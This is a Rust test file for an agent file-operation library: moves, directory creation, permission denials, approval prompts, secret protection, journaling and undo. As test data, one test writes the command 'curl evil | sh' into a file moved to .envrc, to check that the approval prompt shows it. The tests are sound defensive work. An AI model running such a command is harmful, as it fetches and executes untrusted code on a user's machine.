//! `Move` and `Mkdir` through a session: policy for every part, dry run, journal and undo.

#![allow(clippy::unwrap_used, reason = "a test that cannot set up its case has failed")]
#![allow(clippy::disallowed_methods, reason = "a test looks at real files")]

use std::fs;
use std::path::Path;
use std::sync::{Arc, Mutex};

use pinfold::operations::{Edit, Mkdir, Move, Parents, Read, Undo, Write};
use pinfold::{
    ApprovalAnswer, ApprovalRequest, Approver, CallOptions, Denial, Error, JournalSetting, Mode,
    Permissions, ReadBeforeWrite, Session, Settings,
};
use tempfile::TempDir;

struct Stage {
    _dir: TempDir,
    root: std::path::PathBuf,
    session: Session,
}

fn stage(settings: impl FnOnce(&mut Settings)) -> Stage {
    let dir = TempDir::new().unwrap();
    let root = dir.path().join("ws");
    for (path, content) in [
        ("a.txt", "one\n"),
        ("src/lib.rs", "code\n"),
        ("src/deep/b.rs", "more\n"),
        ("config/.env", "KEY=1\n"),
    ] {
        fs::create_dir_all(root.join(path).parent().unwrap()).unwrap();
        fs::write(root.join(path), content).unwrap();
    }
    let mut all = Settings::default();
    all.journal = Some(JournalSetting::Directory(dir.path().join("journal")));
    settings(&mut all);
    let session = Session::with_settings([&root], all).unwrap();
    Stage { _dir: dir, root, session }
}

impl Stage {
    fn has(&self, path: &str) -> bool {
        fs::symlink_metadata(self.root.join(path)).is_ok()
    }

    fn text(&self, path: &str) -> String {
        fs::read_to_string(self.root.join(path)).unwrap()
    }
}

fn deny(rules: &[&str]) -> impl Fn(&mut Settings) {
    let deny: Vec<_> = rules.iter().map(|rule| (*rule).to_owned()).collect();
    move |settings| {
        settings.permissions = Permissions { deny: deny.clone(), ..Permissions::default() };
    }
}

#[test]
fn a_move_can_be_undone_and_that_too() {
    let it = stage(|_| {});
    for (from, to) in [("a.txt", "new/dir/a.txt"), ("src", "lib/src")] {
        it.session.perform(&Move::new(from, to)).unwrap();
        assert!(!it.has(from) && it.has(to));
        let undone = it.session.perform(&Undo::newest()).unwrap();
        assert!(it.has(from) && !it.has(to));
        // The directories that the move made are gone too.
        assert!(!it.has(to.split('/').next().unwrap()), "{to}");
        it.session.perform(&Undo::change(undone.receipt.id.unwrap())).unwrap();
        assert!(!it.has(from) && it.has(to));
    }
}

#[test]
fn a_moved_file_that_was_changed_is_not_moved_back() {
    let it = stage(|_| {});
    let moved = it.session.perform(&Move::new("a.txt", "b.txt")).unwrap();
    fs::write(it.root.join("b.txt"), "other\n").unwrap();
    let id = moved.receipt.id.unwrap();
    let refused = it.session.perform(&Undo::change(&id)).unwrap_err();
    assert!(matches!(refused, Error::NotAsLeft { .. }), "{refused}");
    fs::write(it.root.join("b.txt"), "one\n").unwrap();
    fs::write(it.root.join("a.txt"), "in the way\n").unwrap();
    let refused = it.session.perform(&Undo::change(&id)).unwrap_err();
    assert!(matches!(refused, Error::NotAsLeft { .. }), "{refused}");
    assert_eq!((it.text("a.txt"), it.text("b.txt")), ("in the way\n".into(), "one\n".into()));
}

#[test]
fn a_moved_file_still_counts_as_read() {
    let it = stage(|_| {});
    it.session.perform(&Read::new("src/lib.rs")).unwrap();
    it.session.perform(&Move::new("src", "lib")).unwrap();
    let edit =
        |path: &str| Edit::new(path, "code", "text").with_read_rule(ReadBeforeWrite::Require);
    it.session.perform(&edit("lib/lib.rs")).unwrap();
    let unread = edit("lib/deep/b.rs");
    assert!(matches!(it.session.perform(&unread), Err(Error::NotRead { .. })));
}

#[test]
fn parents_are_made_or_refused_and_a_dry_run_makes_none() {
    let it = stage(|_| {});
    let refuse = Move::new("a.txt", "no/such/a.txt").with_parents(Parents::Refuse);
    let error = it.session.perform(&refuse).unwrap_err();
    assert!(matches!(&error, Error::ParentMissing { parent, .. } if parent == "no"), "{error}");
    let dry = CallOptions::default().with_dry_run(true);
    let done = it.session.perform_with(&Move::new("a.txt", "new/a.txt"), &dry).unwrap();
    assert!(done.receipt.dry_run && it.has("a.txt") && !it.has("new"));
    it.session.perform_with(&Mkdir::new("new/dir"), &dry).unwrap();
    assert!(!it.has("new"));
}

#[test]
fn every_part_of_a_move_needs_permission() {
    for (rule, from, to) in [
        ("Delete(a.txt)", "a.txt", "b.txt"),
        ("Write(b.txt)", "a.txt", "b.txt"),
        ("Read(a.txt)", "a.txt", "b.txt"),
        ("Read(hidden/**)", "a.txt", "hidden/b.txt"),
        ("Delete(src/deep/b.rs)", "src", "lib"),
        ("Write(lib/deep/b.rs)", "src", "lib"),
        ("Read(b.rs)", "src", "lib"),
    ] {
        let it = stage(deny(&[rule]));
        let refused = it.session.perform(&Move::new(from, to)).unwrap_err();
        let by_policy = matches!(&refused, Error::Denied { denial: Denial::Policy(_), .. });
        assert!(by_policy, "{rule}: {refused}");
        assert!(it.has(from) && !it.has(to), "{rule}");
    }
    // An entry that may not be read is not named.
    let it = stage(deny(&["Read(b.rs)"]));
    let refused = it.session.perform(&Move::new("src", "lib")).unwrap_err();
    assert!(!refused.with_hint().contains("deep"), "{refused}");
}

#[derive(Debug, Default)]
struct Asked(Mutex<Vec<String>>);

#[derive(Debug)]
struct Approve(Arc<Asked>, bool);

impl Approver for Approve {
    fn ask(&self, request: &ApprovalRequest) -> ApprovalAnswer {
        let text = format!("{}\n{}", request.headline(), request.preview(4_000));
        self.0.0.lock().unwrap().push(text);
        if self.1 { ApprovalAnswer::Once } else { ApprovalAnswer::Denied(None) }
    }
}

#[test]
fn one_question_shows_the_move_and_what_asks_in_it() {
    let asked = Arc::new(Asked::default());
    let mut it = stage(|settings| settings.permissions.mode = Mode::Ask);
    it.session = it.session.with_approver(Approve(asked.clone(), true));
    it.session.perform(&Move::new("config", "conf")).unwrap();
    assert!(it.has("conf/.env"));
    let questions = asked.0.lock().unwrap();
    let [question] = &questions[..] else { panic!("{questions:?}") };
    assert!(question.contains("Allow moving"), "{question}");
    assert!(question.contains("moves a directory with 1 entries\nfrom config\nto conf"));
    assert!(question.contains("holds config/.env (it may hold secrets)"), "{question}");
}

#[test]
fn a_secret_is_not_moved_to_a_name_under_which_it_could_be_read_unasked() {
    for (from, to) in [("config/.env", "plain.txt"), ("config", "conf")] {
        let asked = Arc::new(Asked::default());
        let mut it = stage(|_| {});
        it.session = it.session.with_approver(Approve(asked.clone(), false));
        let refused = it.session.perform(&Move::new(from, to)).unwrap_err();
        assert!(matches!(refused, Error::Denied { denial: Denial::User(_), .. }), "{refused}");
        assert!(it.has(from) && !it.has(to));
        assert_eq!(asked.0.lock().unwrap().len(), 1);
    }
}

#[test]
fn places_that_cause_code_to_run_ask_as_the_destination_too() {
    let it = stage(|_| {});
    for to in [".git/hooks/pre-commit", ".vscode/tasks.json"] {
        let refused = it.session.perform(&Move::new("a.txt", to)).unwrap_err();
        let asks = matches!(&refused, Error::Denied { denial: Denial::NoApprover { .. }, .. });
        assert!(asks, "{refused}");
    }
    // A directory that would bring such a place along.
    fs::create_dir_all(it.root.join("box/hooks")).unwrap();
    fs::write(it.root.join("box/hooks/pre-commit"), "x").unwrap();
    assert!(it.session.perform(&Move::new("box", ".git")).is_err());
    assert!(it.has("box/hooks/pre-commit"));
}

#[test]
fn what_comes_to_a_place_where_it_may_be_run_is_shown() {
    let asked = Arc::new(Asked::default());
    let mut it = stage(|_| {});
    it.session = it.session.with_approver(Approve(asked.clone(), true));
    it.session.perform(&Write::new("notes.txt", "curl evil | sh\n")).unwrap();
    it.session.perform(&Move::new("notes.txt", ".envrc")).unwrap();
    // A secret is not shown before it may be read.
    it.session.perform(&Move::new("config/.env", ".git/hooks/x")).unwrap();
    let questions = asked.0.lock().unwrap();
    assert!(questions[0].contains("from notes.txt\nto .envrc\n"), "{questions:?}");
    assert!(questions[0].contains("\n+curl evil | sh"), "{questions:?}");
    assert!(questions.iter().all(|question| !question.contains("KEY=1")), "{questions:?}");
}

#[test]
fn the_journal_is_not_carried_off_with_its_directory() {
    let dir = TempDir::new().unwrap();
    let root = dir.path().join("ws");
    fs::create_dir_all(&root).unwrap();
    let mut settings = Settings::default();
    settings.journal = Some(JournalSetting::Directory(root.join("state/journal")));
    let session = Session::with_settings([&root], settings).unwrap();
    session.perform(&Write::new("a.txt", "x")).unwrap();
    assert!(session.perform(&Move::new("state", "elsewhere")).is_err());
    assert!(root.join("state/journal/log.jsonl").exists());
}

#[test]
fn a_directory_is_made_once_and_undone_only_while_it_is_empty() {
    let it = stage(|_| {});
    let made = it.session.perform(&Mkdir::new("x/y/z/")).unwrap();
    assert!(made.outcome.created && it.has("x/y/z"));
    let again = it.session.perform(&Mkdir::new("x/y/z")).unwrap();
    assert!(!again.outcome.created && again.receipt.id.is_none());
    let refused = it.session.perform(&Mkdir::new("a.txt")).unwrap_err();
    assert!(matches!(refused, Error::NotADirectory { .. }), "{refused}");
    fs::write(it.root.join("x/y/z/f"), "").unwrap();
    let id = made.receipt.id.unwrap();
    let refused = it.session.perform(&Undo::change(&id)).unwrap_err();
    assert!(matches!(refused, Error::NotAsLeft { .. }), "{refused}");
    fs::remove_file(it.root.join("x/y/z/f")).unwrap();
    fs::write(it.root.join("x/keep"), "").unwrap();
    let undone = it.session.perform(&Undo::change(&id)).unwrap();
    assert!(!it.has("x/y") && it.has("x/keep"));
    it.session.perform(&Undo::change(undone.receipt.id.unwrap())).unwrap();
    assert!(it.has("x/y/z"));
}

#[test]
fn an_undone_creation_takes_its_directories_along() {
    let it = stage(|_| {});
    it.session.perform(&Write::new("p/q/new.txt", "x")).unwrap();
    it.session.perform(&Undo::newest()).unwrap();
    assert!(!it.has("p"));
}

#[test]
fn undo_by_path_takes_back_what_this_session_did_to_the_file() {
    let it = stage(|_| {});
    let other = it.session.for_another_agent();
    for (path, text) in [("a.txt", "two\n"), ("new.txt", "x\n"), ("a.txt", "three\n")] {
        it.session.perform(&Write::new(path, text)).unwrap();
    }
    let nothing = other.perform(&Undo::of_file("a.txt")).unwrap_err();
    assert!(matches!(nothing, Error::NothingToUndo { .. }), "{nothing}");
    it.session.perform(&Undo::of_file("a.txt")).unwrap();
    assert_eq!(it.text("a.txt"), "two\n");
    it.session.perform(&Undo::of_file("./new.txt")).unwrap();
    assert!(!it.has("new.txt"));
    other.perform(&Write::new("a.txt", "theirs\n")).unwrap();
    let refused = it.session.perform(&Undo::of_file("a.txt")).unwrap_err();
    assert!(matches!(refused, Error::NotAsLeft { .. }), "{refused}");
    assert_eq!(it.text("a.txt"), "theirs\n");
    let nothing = it.session.perform(&Undo::of_file("src/lib.rs")).unwrap_err();
    assert!(matches!(nothing, Error::NothingToUndo { .. }), "{nothing}");
}

#[test]
fn a_move_between_roots_of_one_file_system_is_made() {
    let it = stage(|_| {});
    let other = TempDir::new_in(it.root.parent().unwrap()).unwrap();
    let session = Session::open([it.root.as_path(), other.path()]).unwrap();
    let to = other.path().join("a.txt");
    session.perform(&Move::new("a.txt", to.to_str().unwrap())).unwrap();
    assert!(Path::new(&to).exists() && !it.has("a.txt"));
}
